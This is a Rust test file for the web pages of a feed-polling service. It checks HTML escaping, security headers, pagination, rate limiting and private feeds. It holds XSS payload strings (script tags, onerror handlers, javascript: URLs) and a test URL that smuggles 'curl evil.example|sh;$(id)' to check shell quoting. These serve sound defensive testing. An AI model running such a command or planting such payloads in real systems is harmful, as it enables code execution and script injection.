//! The pages as they are sent, over the embedded backends.

use std::time::Duration;

use axum::body::{Body, to_bytes};
use axum::http::header;
use common::document::{Document, FeedAbout};
use common::entry::Entry;
use common::known::KnownEntries;
use serde_json::json;

use crate::testing::Fleet;

const HOSTILE: &str = "</title><script>alert('x')</script><img src=x onerror=\"x\">";

fn entry(id: &str, url: &str) -> Entry {
    Entry { id: id.to_owned(), title: Some(HOSTILE.to_owned()), url: Some(url.to_owned()), ..Entry::default() }
}

/// A fleet whose only feed calls itself something nasty.
async fn hostile_fleet() -> Fleet {
    let fleet = Fleet::new().await;
    let id = fleet.feed("https://example.com/feed.xml?<b>\"'").await;
    let mut document = Document { title: Some(HOSTILE.to_owned()), ..Document::default() };
    let about =
        FeedAbout { description: Some(HOSTILE.to_owned()), generator: Some("Quay 1".into()), ..FeedAbout::default() };
    document.onward.about = Some(Box::new(about));
    let mut posts = vec![entry("1", "javascript:alert(1)"), entry("2", "https://a.example/\"onmouseover=\"x")];
    for (post, image) in posts.iter_mut().zip(["javascript:alert(1)", "https://a.example/\"><img src=x>"]) {
        post.summary = Some(format!("<p>{HOSTILE}</p>&lt;script&gt;alert(1)&lt;/script&gt;"));
        post.author = Some(HOSTILE.to_owned());
        post.details_mut().image = Some(image.to_owned());
    }
    let entries = posts;
    document.keep_news(entries, &KnownEntries::default());
    fleet.read(id, document).await;
    fleet
}

pub(super) async fn page(fleet: &Fleet, path: &str) -> (u16, String) {
    let (status, _, body) = fleet.call("GET", path, &[("accept", "text/html")], "").await;
    (status, body)
}

#[tokio::test]
async fn strangers_words_are_only_words_on_every_page() {
    let fleet = hostile_fleet().await;
    fleet.ops.condition.storing.failed("the disk is <full>".to_owned());
    fleet.ops.set_paused(true).await.unwrap();
    let status = "/status?url=https://example.com/feed.xml?%3Cb%3E%22'";
    for path in [
        "/",
        "/entries",
        "/entries?q=%3Cscript%3E&label=%22",
        "/entries?feed=1",
        "/entries?after=-9223372036854775808",
        "/feeds",
        "/feeds?q=%3Cscript%3E",
        "/feeds/1",
        status,
        "/status?url=%3Cscript%3E",
        "/feeds/%3Cb%3E",
    ] {
        let (_, page) = page(&fleet, path).await;
        let scripts: Vec<&str> = page.split("<script").skip(1).collect();
        assert!(
            scripts.iter().all(|script| script.starts_with(" src=\"") && script.contains("defer></script>")),
            "{path}"
        );
        for broken in ["<img", "href=\"javascript", "<full>", "\"onmouseover", "?<b>", " style=", "<style", " onclick="]
        {
            assert!(!page.contains(broken), "{path} has {broken}:\n{page}");
        }
    }
    let (_, fleets) = page(&fleet, "/").await;
    assert!(fleets.contains("&#60;script&#62;") && fleets.contains("href=\"https://a.example/"), "{fleets}");
    assert!(fleets.contains("All polling is paused") && fleets.contains("the disk is"), "{fleets}");
    let (_, feed) = page(&fleet, "/feeds/1").await;
    assert!(feed.contains("&#60;script&#62;"));
    assert!(feed.contains("<dt>Description</dt><dd>&#60;/title") && feed.contains("<dd>Quay 1</dd>"), "{feed}");
}

#[tokio::test]
async fn every_page_is_sent_with_a_policy_that_runs_our_own_script_alone() {
    let fleet = hostile_fleet().await;
    for path in
        ["/", "/entries", "/entries?limit=x", "/feeds", "/feeds/1", "/feeds/7", "/status", "/feeds?limit=x", "/live"]
    {
        let response = fleet.respond(path).await;
        let policy = response.headers()[header::CONTENT_SECURITY_POLICY].to_str().unwrap();
        assert!(policy.starts_with("default-src 'none'; style-src 'self'; script-src 'self';"), "{path}: {policy}");
        assert!(!policy.contains("unsafe"), "{path}: {policy}");
        assert_eq!(response.headers()[header::X_CONTENT_TYPE_OPTIONS], "nosniff", "{path}");
        assert_eq!(response.headers()[header::REFERRER_POLICY], "same-origin", "{path}");
    }
}

#[tokio::test]
async fn what_a_page_names_is_there() {
    let fleet = hostile_fleet().await;
    for path in ["/", "/entries", "/entries?feed=1", "/feeds", "/feeds/1", "/status"] {
        let (_, text) = page(&fleet, path).await;
        let base = url_of(path);
        let targets =
            ["href=\"", "src=\"", "action=\""].map(|attribute| text.split(attribute).skip(1).collect::<Vec<_>>());
        for target in targets.concat() {
            let target = target.split('"').next().unwrap().replace("&#38;", "&");
            let url = base.as_url().join(&target).unwrap();
            if url.host_str() != Some("fleet.example") || target.starts_with('#') {
                continue;
            }
            let target = &url.as_str()["http://fleet.example".len()..];
            let status = fleet.get(target).await.status;
            // A form that changes something is sent, not opened.
            let is_form = status != 200 && fleet.methods_of(target).await == ["POST"];
            assert!(status == 200 || is_form, "{path} leads to {target}: {status}");
        }
    }
}

fn url_of(path: &str) -> common::url::FeedUrl {
    format!("http://fleet.example{path}").parse().unwrap()
}

#[tokio::test]
async fn an_asset_is_kept_for_good_and_what_is_none_is_not_there() {
    let fleet = Fleet::new().await;
    let text = page(&fleet, "/").await.1;
    let css = text.split("href=\"./").find(|rest| rest.starts_with("assets/pages.css?v=")).unwrap();
    let response = fleet.respond(&format!("/{}", css.split('"').next().unwrap())).await;
    assert!(response.headers()[header::CACHE_CONTROL].to_str().unwrap().ends_with("immutable"));
    assert_eq!(response.headers()[header::CONTENT_TYPE], "text/css; charset=utf-8");
    assert_eq!(fleet.get("/assets/mod.rs").await.status, 404);
}

#[tokio::test]
async fn a_search_takes_a_form_as_browsers_send_it_and_goes_on_page_by_page() {
    let fleet = Fleet::new().await;
    for number in 0..5 {
        fleet.feed(&format!("https://h{}.example/{number}", number % 2)).await;
    }
    let form = "q=&host=&category=&status=active&failure=&sort=subscribers";
    let (status, all) = page(&fleet, &format!("/feeds?{form}")).await;
    assert_eq!((status, all.matches("<tr>").count()), (200, 6), "{all}");
    let (_, some) = page(&fleet, "/feeds?host=h0.example").await;
    assert_eq!(some.matches("<tr>").count(), 4, "{some}");

    let (mut path, mut seen) = (format!("/feeds?{form}&limit=2"), Vec::new());
    for _ in 0..4 {
        let (_, part) = page(&fleet, &path).await;
        let links = part.split("<a href=\"feeds/").skip(1).map(|rest| rest.split('"').next().unwrap().to_owned());
        seen.extend(links);
        let Some((_, next)) = part.split_once("rel=\"next\" href=\"") else { break };
        path = format!("/{}", next.split('"').next().unwrap().replace("&#38;", "&"));
    }
    seen.sort();
    assert_eq!(seen, ["1", "2", "3", "4", "5"]);

    let (status, wrong) = page(&fleet, "/feeds?category=Z&q=%22kept%22").await;
    assert!(status == 400 && wrong.contains("category must be one of") && wrong.contains("&#34;kept&#34;"), "{wrong}");
    assert_eq!(page(&fleet, "/feeds?colour=red").await.0, 400);
}

/// The ids that the entries of a page show in their titles.
fn titles(page: &str) -> Vec<String> {
    let titles = page.split("<h2>").skip(1).map(|rest| rest.split("</h2>").next().unwrap());
    titles.map(|title| title.split('>').nth(1).unwrap_or(title).split('<').next().unwrap().to_owned()).collect()
}

/// The address of the page before or behind this one.
pub(super) fn leads_to(page: &str, rel: &str) -> Option<String> {
    let (_, link) = page.split_once(&format!("rel=\"{rel}\" href=\""))?;
    Some(format!("/{}", link.split('"').next()?.replace("&#38;", "&")))
}

#[tokio::test]
async fn the_river_is_read_page_by_page_in_both_directions() {
    let fleet = Fleet::new().await;
    let id = fleet.feed("https://a.example/feed").await;
    for number in 0..10 {
        let title = format!("post {number}");
        fleet.polled_with(id, vec![Entry { id: title.clone(), title: Some(title), ..Entry::default() }]).await;
    }
    let expected = |numbers: &[u8]| numbers.iter().map(|number| format!("post {number}")).collect::<Vec<_>>();
    let start = "/entries?limit=4&q=POST&feed=&label=";
    let (_, one) = page(&fleet, start).await;
    let (_, two) = page(&fleet, &leads_to(&one, "next").unwrap()).await;
    let (_, three) = page(&fleet, &leads_to(&two, "next").unwrap()).await;
    assert_eq!(titles(&one), expected(&[9, 8, 7, 6]));
    assert_eq!(titles(&two), expected(&[5, 4, 3, 2]));
    assert_eq!(titles(&three), expected(&[1, 0]));
    assert_eq!((leads_to(&one, "prev"), leads_to(&three, "next")), (None, None));
    let (_, back) = page(&fleet, &leads_to(&three, "prev").unwrap()).await;
    assert_eq!(titles(&back), expected(&[5, 4, 3, 2]));
    let (_, top) = page(&fleet, &leads_to(&back, "prev").unwrap()).await;
    assert_eq!((titles(&top), leads_to(&top, "prev")), (expected(&[9, 8, 7, 6]), None));
    assert!(top.contains("Atom</a>") && top.contains("entries.atom?limit=4&#38;q=POST\""), "{top}");
    let (status, wrong) = page(&fleet, "/entries?category=Z&q=%22kept%22").await;
    assert!(status == 400 && wrong.contains("category must be one of") && wrong.contains("&#34;kept&#34;"), "{wrong}");
    let (status, unknown) = page(&fleet, "/entries?feed=77").await;
    assert!(status == 404 && unknown.contains("there is no feed 77"), "{unknown}");
}

#[tokio::test]
async fn the_river_shows_the_feeds_title_the_publication_time_and_the_first_words() {
    let fleet = Fleet::new().await;
    let id = fleet.feed("https://a.example/feed").await;
    let mut document = Document { title: Some("Harbour news".into()), ..Document::default() };
    let published = Some(fleet.ops.clock.now().before(Duration::from_secs(7200)));
    let summary = Some("<p>The <b>fog</b> is back.</p>".to_owned());
    document
        .keep_news(vec![Entry { summary, published, ..entry("1", "https://a.example/1") }], &KnownEntries::default());
    fleet.read(id, document).await;
    for path in ["/entries", "/"] {
        let (_, page) = page(&fleet, path).await;
        assert!(page.contains("feeds/1\">Harbour news</a>") && page.contains(">2 h ago</time>"), "{page}");
        assert!(path == "/" || page.contains("The fog is back."), "{page}");
    }
    let (_, of_feed) = page(&fleet, "/feeds/1").await;
    assert!(of_feed.contains("../entries?feed=1"), "{of_feed}");
    let (_, empty) = page(&Fleet::new().await, "/entries").await;
    assert!(empty.contains("No entries yet."), "{empty}");
}

#[tokio::test]
async fn a_feeds_page_tells_why_and_what_and_an_unknown_feed_is_a_page_too() {
    let fleet = hostile_fleet().await;
    let (_, text) = page(&fleet, "/feeds/1").await;
    for expected in ["category D: 1 h 40 min", "New content", "200 OK", "1.0 kB", "ETag", "&#34;1&#34;", "Refresh now"]
    {
        assert!(text.contains(expected), "{expected} is missing:\n{text}");
    }
    assert!(!text.contains("type=\"password\""), "no token is needed here");
    fleet.post("/api/v1/feeds/1/pause", json!(null)).await;
    let (_, text) = page(&fleet, "/feeds/1").await;
    assert!(text.contains("it is paused and not polled") && text.contains("1/resume\""), "{text}");
    for path in ["/feeds/99", "/feeds/x"] {
        let (status, text) = page(&fleet, path).await;
        assert!(status == 404 && text.contains("there is no feed") && text.contains("<html"), "{path}: {text}");
    }
}

#[tokio::test]
async fn a_private_feed_looks_to_publishers_like_one_that_nobody_reads() {
    let fleet = Fleet::new().await;
    let id = fleet.feed("https://example.com/harbour.xml").await;
    let ask = async |name: &str| {
        let (status, text) = page(&fleet, &format!("/status?url=https://example.com/{name}.xml")).await;
        (status, text.replace(name, "NAME"))
    };
    let known = ask("harbour").await;
    assert!(known.0 == 200 && known.1.contains("Yes, its first poll is still to come."), "{}", known.1);
    let changed = fleet.ask("PATCH", &format!("/api/v1/feeds/{id}"), Some(json!({ "private": true }))).await;
    assert_eq!(changed.status, 200);
    let (private, unknown) = (ask("harbour").await, ask("lantern").await);
    assert_eq!(private.0, 404);
    assert_eq!(private, unknown);
}

#[tokio::test]
async fn the_settings_of_a_feed_with_a_login_are_private_only_if_a_person_set_that() {
    let fleet = Fleet::with_secrets().await;
    let login = json!({ "url": "https://example.com/feed", "username": "ann", "password": "x" });
    let id = fleet.post("/api/v1/feeds", login).await.body["id"].as_i64().unwrap();
    let is_ticked = async || {
        let (status, text) = page(&fleet, &format!("/feeds/{id}")).await;
        assert_eq!(status, 200);
        let rest = &text[text.find("name=\"private\"").unwrap()..];
        rest[..rest.find('>').unwrap()].contains("checked")
    };
    assert!(!is_ticked().await, "its page would store what it shows");
    fleet.ask("PATCH", &format!("/api/v1/feeds/{id}"), Some(json!({ "private": true }))).await;
    assert!(is_ticked().await);
}

#[tokio::test]
async fn a_feed_has_no_more_calm_groups_than_there_are_zones() {
    let fleet = Fleet::new().await;
    let with = |groups: usize| {
        let calm = vec![json!({ "zone": "Europe/Paris", "subscribers": 1 }); groups];
        json!({ "url": "https://example.com/feed", "calm": calm })
    };
    let refused = fleet.post("/api/v1/feeds", with(1_001)).await;
    assert_eq!(refused.status, 400);
    assert!(refused.body["error"].as_str().unwrap().contains("more than 1000 groups"), "{}", refused.body);
    assert_eq!(fleet.post("/api/v1/feeds", with(1_000)).await.status, 201);
}

#[tokio::test]
async fn publishers_ask_so_many_times_a_minute() {
    let fleet = Fleet::with(|config| config.api.status_per_minute = 3).await;
    for _ in 0..3 {
        assert_eq!(fleet.get("/status").await.status, 200);
    }
    let refused = fleet.respond("/status").await;
    assert_eq!((refused.status().as_u16(), refused.headers()[header::RETRY_AFTER].to_str().unwrap()), (429, "60"));
    fleet.clock.advance(Duration::from_secs(61));
    assert_eq!(fleet.get("/status").await.status, 200);
}

#[tokio::test]
async fn what_is_live_has_the_names_of_the_page_and_is_for_so_many_only() {
    let fleet = hostile_fleet().await;
    let live = super::Live::default();
    live.look(&fleet.ops, 0).await.unwrap();
    let (numbers, lists) = live.last_sent();
    let text = page(&fleet, "/").await.1;
    for name in text.split("data-text=\"").skip(1).map(|rest| rest.split('"').next().unwrap()) {
        assert!(numbers["texts"][name].is_string(), "{name} stands still");
    }
    for name in text.split("data-path=\"").skip(1).map(|rest| rest.split('"').next().unwrap()) {
        assert!(numbers["paths"][name].is_string(), "{name} stands still");
    }
    assert!(lists["lists"].as_str().unwrap().contains("&#60;script&#62;") && lists["alarms"].is_string());

    let mut open: Vec<Body> = Vec::new();
    for _ in 0..64 {
        let response = fleet.respond("/live").await;
        assert_eq!(
            (response.status().as_u16(), &response.headers()[header::CONTENT_TYPE].to_str().unwrap()[..17]),
            (200, "text/event-stream")
        );
        open.push(response.into_body());
    }
    assert_eq!(fleet.respond("/live").await.status(), 503);
    open.pop();
    assert_eq!(fleet.respond("/live").await.status(), 200);
    // A fleet that stops lets its listeners go.
    fleet.closing.cancel();
    assert!(to_bytes(open.pop().unwrap(), 1 << 20).await.unwrap().is_empty());
}

#[tokio::test]
async fn the_command_to_copy_holds_nothing_but_a_quoted_address() {
    let fleet = Fleet::new().await;
    let (_, page) = page(&fleet, "/status?url=http://e.example/';curl%20evil.example|sh;$(id);'").await;
    let command = page.split("<code>").nth(1).unwrap().split("</code>").next().unwrap();
    assert!(
        command.starts_with("curl --data-urlencode 'url=http://e.example/%27;curl%20evil.example|sh;$(id);%27' '"),
        "{command}"
    );
    assert_eq!(command.matches('\'').count() + command.matches("&#39;").count(), 4, "{command}");
}

#[tokio::test]
async fn tiles_that_matter_link_and_warn_and_what_is_unknown_is_a_dash() {
    let fleet = Fleet::new().await;
    fleet.feed("https://a.example/feed").await;
    let (_, text) = page(&fleet, "/").await;
    assert!(text.contains("of <i data-text=\"wanted\">–</i> wanted"), "{text}");
    for (tile, link) in
        [("lag", "feeds?sort=next_due"), ("parked", "hosts?sort=feeds"), ("complete", "feeds?failing=true")]
    {
        assert!(text.contains(&format!("<a href=\"{link}\"><b data-text=\"{tile}\">")), "{tile}: {text}");
    }
    assert!(text.contains("data-warns=\"warns-complete\" class=\"warns\""), "a feed that was not read: {text}");
    assert!(
        text.contains("<li data-warns=\"parked\"><a") && text.contains("<li data-warns=\"warns-lag\"><a"),
        "{text}"
    );
    assert!(text.contains("<time id=\"at\" datetime=\"2026-09-21T"), "{text}");
    let (_, list) = page(&fleet, "/feeds?status=gone").await;
    assert!(list.contains("<option value=\"gone\" selected>gone (410)</option>"), "{list}");
}

#[tokio::test]
async fn the_penalty_box_of_the_fleets_page_has_the_feeds_in_it_and_no_others() {
    let fleet = Fleet::new().await;
    for number in 0..9 {
        fleet.failing(&format!("https://f{number}.example/fails"), 502, false).await;
    }
    for number in 0..2 {
        fleet.failing(&format!("https://b{number}.example/boxed"), 502, true).await;
    }
    let (_, text) = page(&fleet, "/").await;
    let listed = text.split("id=\"box-title\"").nth(1).unwrap().split("</section>").next().unwrap();
    assert!(listed.matches("/boxed</a>").count() == 2 && !listed.contains("/fails"), "{listed}");
    assert!(listed.contains("feeds?penalised=true&") && listed.contains("<b>2</b>"), "{listed}");
    // What the count links to.
    let (_, list) = page(&fleet, "/feeds?penalised=true&failure=status").await;
    assert!(list.matches("/boxed</a>").count() == 2 && !list.contains("/fails"), "{list}");
    assert!(list.contains("<option value=\"true\" selected>in it</option>"), "{list}");
    let (_, none) = page(&fleet, "/feeds?penalised=true&failure=dns").await;
    assert!(none.contains("No feeds match.") && !none.contains("/boxed"), "{none}");
}
